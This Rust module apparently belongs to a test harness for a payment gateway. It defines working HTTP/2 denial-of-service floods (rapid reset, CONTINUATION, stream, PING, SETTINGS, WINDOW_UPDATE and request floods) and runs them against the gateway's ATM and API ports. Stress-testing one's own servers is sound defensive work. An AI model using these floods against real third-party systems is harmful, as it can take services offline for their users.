//! Peers that send more than anybody can use.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;

use super::{Attack, Attacking, Scale, at_once};
use crate::raw::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use crate::site::Site;

/// Frames a write.
const BATCH: u32 = 50;

pub(super) const ATTACKS: fn() -> Vec<Attack> = || {
    vec![
        flood("rapid_reset", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |number| {
                let call = raw::frame(HEADERS, END_HEADERS, stream(number), &raw::headers_of(raw::CONNECT, &[]));
                [call, raw::frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes())].concat()
            })
        }),
        flood("rapid_reset_api", |site, scale| {
            pressing(scale, site.ports.api, &site.app, |number| {
                let path = "/cashgate.customer.v1.CustomerService/Scan";
                let call = raw::frame(HEADERS, END_HEADERS, stream(number), &raw::headers_of(path, &[]));
                [call, raw::frame(RST_STREAM, 0, stream(number), &8_u32.to_be_bytes())].concat()
            })
        }),
        flood("stream_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |number| {
                raw::frame(HEADERS, END_HEADERS, stream(number), &raw::headers_of(raw::CONNECT, &[]))
            })
        }),
        flood("continuation_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |number| match number {
                0 => raw::frame(HEADERS, 0, 1, &raw::headers_of(raw::CONNECT, &[])),
                _ => raw::frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
            })
        }),
        flood("empty_data_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |number| match number {
                0 => raw::frame(HEADERS, END_HEADERS, 1, &raw::headers_of(raw::CONNECT, &[])),
                _ => raw::frame(DATA, 0, 1, &[]),
            })
        }),
        flood("ping_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |_| raw::frame(PING, 0, 0, &[7; 8]))
        }),
        flood("settings_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |_| raw::frame(SETTINGS, 0, 0, &[]))
        }),
        flood("window_flood", |site, scale| {
            pressing(scale, site.ports.atm, &site.stolen, |_| raw::frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
        }),
        flood("request_flood_api", |site, scale| {
            pressing(scale, site.ports.api, &site.app, |number| {
                let path = "/cashgate.customer.v1.CustomerService/Scan";
                let call = raw::frame(HEADERS, END_HEADERS, stream(number), &raw::headers_of(path, &[]));
                [call, raw::frame(DATA, END_STREAM, stream(number), &raw::message(&[]))].concat()
            })
        }),
    ]
};

fn flood(name: &'static str, run: for<'a> fn(&'a Site, &'a Scale) -> Attacking<'a>) -> Attack {
    Attack { name, needs_crl: false, is_quick: true, run }
}

/// Streams of clients have odd numbers.
const fn stream(number: u32) -> u32 {
    number * 2 + 1
}

/// A few peers begin HTTP/2 and then send frame after frame, as fast as the gateway takes them.
fn pressing<'a>(scale: &'a Scale, port: u16, shown: &'a Arc<ClientConfig>, frame: fn(u32) -> Vec<u8>) -> Attacking<'a> {
    Box::pin(async move {
        let attacker = |_| {
            let shown = Arc::clone(shown);
            async move {
                let Ok(stream) = raw::tls(port, &shown).await else { return Some(Duration::ZERO) };
                let (mut begun, mut sent) = (false, 0);
                let next = move || {
                    let mut bytes = if begun { Vec::new() } else { raw::beginning(&[]) };
                    begun = true;
                    for _ in 0..BATCH {
                        bytes.extend(frame(sent));
                        sent += 1;
                    }
                    Some(bytes)
                };
                raw::press(stream, next, Duration::ZERO).await
            }
        };
        Ok(at_once(scale.fast, attacker).await)
    })
}
